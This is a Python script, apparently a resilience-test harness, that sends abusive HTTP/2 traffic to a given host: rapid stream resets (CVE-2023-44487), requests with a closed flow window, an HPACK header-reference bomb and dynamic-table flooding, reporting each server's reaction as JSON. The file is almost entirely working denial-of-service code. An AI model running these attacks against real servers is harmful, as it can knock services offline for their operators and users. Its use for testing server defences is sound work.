"""HTTP/2 clients that do harm, in clear, by the `h2` and `hpack` packages. Says how it ended, as JSON.

    h2_abuse.py resets HOST:PORT COUNT     opens streams and resets them at once (CVE-2023-44487)
    h2_abuse.py window HOST:PORT PATH      asks with the stream's window closed and never opens it, then asks again with one
    h2_abuse.py bomb HOST:PORT COUNT       refers to one large field COUNT times in a block of a few bytes each
    h2_abuse.py tables HOST:PORT COUNT     fills the table with COUNT large fields, then asks for a page

`ended` is `closed` where the connection ended, `reset` or `answered` where only the stream did, `open` where neither did.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame

PATIENCE = 60
# Of a block in one HEADERS frame; what goes beyond comes in CONTINUATION frames.
FRAME = 16_000


def connect(authority, settings=None):
    host, port = authority.rsplit(":", 1)
    stream = socket.create_connection((host, int(port)), timeout=PATIENCE)
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    if settings:
        client.local_settings = h2.settings.Settings(client=True, initial_values=settings)
    client.initiate_connection()
    stream.sendall(client.data_to_send())
    return stream, client


def fields(authority, path="/"):
    return [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]


def end(stream, client, number):
    """How the stream ends, or the connection."""
    status, begun = None, time.monotonic()
    while time.monotonic() < begun + PATIENCE:
        try:
            data = stream.recv(65536)
        except TimeoutError:
            break
        except OSError:
            data = b""
        try:
            events = client.receive_data(data) if data else []
        except h2.exceptions.ProtocolError:
            data, events = b"", []
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                return {"ended": "closed", "code": int(event.error_code)}
            if getattr(event, "stream_id", None) != number:
                continue
            if isinstance(event, h2.events.ResponseReceived):
                status = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.StreamReset):
                return {"ended": "reset", "code": int(event.error_code), "status": status}
            elif isinstance(event, h2.events.StreamEnded):
                return {"ended": "answered", "status": status}
        if not data:
            return {"ended": "closed", "status": status}
        try:
            stream.sendall(client.data_to_send())
        except OSError:
            pass
    return {"ended": "open", "status": status}


def resets(authority, count):
    stream, client = connect(authority)
    sent = 0
    try:
        while sent < count:
            for _ in range(min(50, count - sent)):
                number = client.get_next_available_stream_id()
                client.send_headers(number, fields("edge.test"), end_stream=True)
                client.reset_stream(number, h2.errors.ErrorCodes.CANCEL)
                sent += 1
            stream.sendall(client.data_to_send())
    except OSError:
        pass
    return {**end(stream, client, 0), "sent": sent}


def window(authority, path):
    stream, client = connect(authority, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    client.send_headers(1, fields("a", path), end_stream=True)
    stream.sendall(client.data_to_send())
    ended = end(stream, client, 1)
    # The connection goes on: another stream, with a window.
    if ended["ended"] == "reset":
        client.send_headers(3, fields("a", "/name"), end_stream=True)
        client.increment_flow_control_window(65_535, 3)
        stream.sendall(client.data_to_send())
        ended["after"] = end(stream, client, 3)["ended"]
    return ended


def block(stream, number, data):
    """A header block in as many frames as it takes."""
    pieces = [data[at : at + FRAME] for at in range(0, len(data), FRAME)] or [b""]
    for at, piece in enumerate(pieces):
        frame = ContinuationFrame(number) if at else HeadersFrame(number)
        frame.data = piece
        if not at:
            frame.flags.add("END_STREAM")
        if at == len(pieces) - 1:
            frame.flags.add("END_HEADERS")
        stream.sendall(frame.serialize())


def bomb(authority, count):
    stream, client = connect(authority)
    encoder = hpack.Encoder()
    data = encoder.encode(fields("a")) + encoder.encode([("x-bomb", "y" * 3_900)]) + b"\xbe" * count
    # What it knows of the stream comes from what it sends itself.
    client.get_next_available_stream_id()
    client.send_headers(1, fields("a"), end_stream=True)
    client.data_to_send()
    try:
        block(stream, 1, data)
    except OSError:
        pass
    return {**end(stream, client, 1), "bytes": len(data)}


def tables(authority, count):
    stream, client = connect(authority)
    encoder = hpack.Encoder()
    ended = []
    for number in range(1, 2 * count, 2):
        client.send_headers(number, fields("a"), end_stream=True)
        client.data_to_send()
        # A field that leaves no room for another, and one that is larger than the table.
        data = encoder.encode(fields("a", "/name") + [("x-fill", f"{number:03900}")])
        block(stream, number, data)
        ended.append(end(stream, client, number))
        if ended[-1]["ended"] == "closed":
            break
    return {**ended[-1], "streams": len(ended)}


if __name__ == "__main__":
    mode, authority, word = sys.argv[1:4]
    how = {"resets": resets, "window": window, "bomb": bomb, "tables": tables}[mode]
    print(json.dumps(how(authority, word if mode == "window" else int(word))))
